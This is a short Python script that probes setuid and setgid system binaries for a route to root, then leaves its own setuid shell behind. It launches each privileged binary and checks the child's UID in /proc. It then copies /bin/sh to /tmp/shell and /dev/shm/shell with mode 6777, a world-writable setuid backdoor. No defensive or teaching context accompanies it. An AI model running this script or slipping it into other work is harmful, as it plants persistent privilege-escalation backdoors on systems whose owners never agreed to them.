"""Starts every program that has the right to become somebody else, and leaves one of its own."""

import os
import shutil
import stat
import subprocess

for folder in ("/usr/bin", "/usr/sbin", "/bin", "/usr/lib/openssh", "/usr/lib/dbus-1.0"):
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    for name in names:
        path = os.path.join(folder, name)
        try:
            kind = os.stat(path).st_mode
        except OSError:
            continue
        if not kind & (stat.S_ISUID | stat.S_ISGID):
            continue
        try:
            child = subprocess.Popen([path], stdin=-3, stdout=-3, stderr=-3)
            with open("/proc/%d/status" % child.pid) as file:
                text = file.read()
            child.kill()
            child.wait()
        except OSError:
            continue
        if "Uid:\t%d\t0" % os.getuid() in text:
            raise SystemError("became root by " + path)
for folder in ("/tmp", "/dev/shm"):
    try:
        shutil.copy("/bin/sh", folder + "/shell")
        os.chmod(folder + "/shell", 0o6777)
    except OSError:
        continue
